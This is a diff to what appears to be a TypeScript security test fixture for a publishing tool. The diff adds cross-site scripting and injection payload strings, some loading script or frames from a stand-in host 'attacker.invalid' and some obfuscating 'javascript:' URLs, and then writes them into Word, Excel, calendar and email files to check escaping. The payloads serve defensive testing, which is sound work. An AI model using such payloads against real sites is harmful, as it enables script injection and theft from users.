@@ -1,6 +1,7 @@
 import { mkdir, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { attribute, jsonAttribute, markdown } from '../../../src/publish/escape.ts';
+import { core, docx, paragraph, sheetRow, workbook } from '../../sources/folder/office.ts';
 
 /** A host that no page may ever ask; reserved by RFC 2606. */
 export const FOREIGN = 'attacker.invalid';
@@ -21,6 +22,9 @@ export function payloads(name: string): string[] {
     `--><iframe src="https://${FOREIGN}/${name}" srcdoc="<script>parent.${call}</script>"></iframe>`,
     `</script></style></textarea></noscript><script src="https://${FOREIGN}/${name}.js"></script>`,
     `[a](javascript:${call}) <https://${FOREIGN}/${name}> ![b](https://${FOREIGN}/${name}.gif)`,
+    `</TITLE ><ScRiPt/x>${call}</sCrIpT ><details open ontoggle="${call}">x</details>`,
+    `&lt;/title&gt;&lt;script&gt;${call}&lt;/script&gt; <a href="java&#9;script&colon;${call}">k</a>`,
+    `\u2028"};${call};//\u2028<form action="//${FOREIGN}"><button formaction="javascript:${call}">`,
     `{globalThis.process.exit(7)}\${${call}} <Cite id={${call}} />`,
   ];
 }
@@ -109,6 +113,7 @@ export async function writeHostileBusiness(folder: string): Promise<string> {
       `Client,Rate,Contact\n"${payload.replaceAll('"', '""')}",EUR 90,"Ann ${payload.replaceAll('"', '""')}"\n`,
     );
   }
+  for (const [index, payload] of payloads('office').entries()) await writeOffice(at, index, payload);
   const configFile = at('baton.json');
   await writeFile(
     configFile,
@@ -128,6 +133,64 @@ export async function writeHostileBusiness(folder: string): Promise<string> {
     }),
   );
   return configFile;
+}
+
+/** Titles, headings, names of sheets, files that came with a mail and a meeting: what programs write for themselves. */
+async function writeOffice(
+  at: (...parts: string[]) => string,
+  index: number,
+  payload: string,
+): Promise<void> {
+  const xml = payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
+  const properties = {
+    'docProps/core.xml': core(`<dc:title>${xml}</dc:title><dc:creator>${xml}</dc:creator>`),
+  };
+  const heading = paragraph(`How to bill ${xml}`, '<w:pStyle w:val="Heading1"/>');
+  const text = heading + paragraph(`Always check ${xml} before the 3rd of the month.`);
+  await writeFile(at('documents/billing', `office ${index}.docx`), docx(text, properties));
+  const rows = sheetRow(1, [`Client ${xml}`, 'Rate', 'Owner']) + sheetRow(2, [xml, 90, xml]);
+  await writeFile(at('documents', `office ${index}.xlsx`), workbook([{ name: xml, rows }], properties));
+  const name = `=?utf-8?B?${Buffer.from(`${payload}.csv`).toString('base64')}?=`;
+  const meeting = [
+    'BEGIN:VCALENDAR',
+    'BEGIN:VEVENT',
+    `UID:${index}`,
+    'DTSTART:20260612T090000Z',
+    `SUMMARY:${payload}`,
+    `LOCATION:${payload}`,
+    `ORGANIZER;CN="${payload.replaceAll('"', "'")}":mailto:kim@client.example`,
+    'END:VEVENT',
+    'END:VCALENDAR',
+    '',
+  ].join('\r\n');
+  const base64 = (body: string) => Buffer.from(body).toString('base64');
+  await writeFile(
+    at(`mail/office${index}.eml`),
+    [
+      `Message-ID: <office${index}@acme.example>`,
+      'From: Kim Poe <kim@client.example>',
+      `To: ${OWNER}`,
+      `Subject: =?utf-8?B?${base64(`Meeting ${payload}`)}?=`,
+      `Date: Tue, ${String(1 + index).padStart(2, '0')} Jun 2026 10:${String(10 + index)}:00 +0000`,
+      'Content-Type: multipart/mixed; boundary=b',
+      '',
+      ...['text/plain; charset=utf-8', 'text/calendar; method=REQUEST; charset=utf-8'].flatMap((type, at) => [
+        '--b',
+        `Content-Type: ${type}`,
+        'Content-Transfer-Encoding: base64',
+        '',
+        base64(at === 0 ? `Please send invoice 2026-1${index} over EUR 90.00 by 15 June 2026.` : meeting),
+      ]),
+      '--b',
+      `Content-Type: text/csv; name="${name}"`,
+      `Content-Disposition: attachment; filename="${name}"`,
+      'Content-Transfer-Encoding: base64',
+      '',
+      base64(`Client,Rate\n"${payload.replaceAll('"', '""')}",EUR 90\n`),
+      '--b--',
+      '',
+    ].join('\r\n'),
+  );
 }
 
 /** Writes pages of a person into the content folder: whatever is written in them, each passes the gate. */
